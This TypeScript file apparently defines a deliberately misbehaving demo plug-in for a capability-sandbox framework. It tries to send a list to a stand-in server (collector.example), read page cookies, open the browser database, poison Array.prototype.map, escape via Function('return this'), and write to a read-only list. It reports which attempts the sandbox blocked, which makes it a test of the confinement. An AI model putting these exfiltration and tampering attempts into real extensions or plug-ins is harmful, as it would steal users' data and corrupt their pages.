/**
 * A plug-in that is up to no good: it tries to send the list away, to read the page, and to change what it may only
 * look at. It reports what became of each attempt.
 */
import { E, makeDefaultExo, prepareTopic, type Baggage, type ERef } from '@vatkit/sdk/vat';
import type { Editable, Source } from '../vats/joined-lists.js';
import type { Card } from './card.js';

const world = globalThis as unknown as {
  fetch(url: string): Promise<unknown>;
  document: { cookie: string };
  indexedDB: { open(name: string): unknown };
};

const attempts = (list: ERef<Source>): [what: string, attempt: () => unknown][] => [
  ['Send the list to a server', () => world.fetch('https://collector.example/lists')],
  ['Read the page’s cookies', () => world.document.cookie],
  ['Open the browser’s database', () => world.indexedDB.open('keyval')],
  ['Poison every array', () => (Array.prototype.map = () => [])],
  ['Run text as code of the page', () => Function('return this')().document.title],
  [
    'Add an item to a list it may only read',
    () => E(list as ERef<Editable>).add('Send money to Mallory'),
  ],
  ['Remove the first item', () => E(list as ERef<Editable>).remove('1')],
];

/** Tries what it may not do. */
export function buildRootObject(_powers: unknown, _parameters: unknown, baggage: Baggage) {
  const { publisher, subscriber } = prepareTopic<Card>(baggage, 'card');
  return makeDefaultExo('nosy', {
    /** Begins to work on what it is granted. */
    async start(list: ERef<Source>) {
      const lines: string[] = [];
      let stopped = 0;
      const tries = attempts(list);
      for (const [what, attempt] of tries) {
        try {
          await attempt();
          lines.push(`${what}: it worked`);
        } catch (error) {
          stopped += 1;
          lines.push(`${what}: ${(error as Error).message}`);
        }
      }
      publisher.publish({ headline: `${stopped} of ${tries.length} attempts were stopped`, lines });
    },
    /**
     * What it has to show.
     * @live
     */
    card: () => subscriber,
  });
}
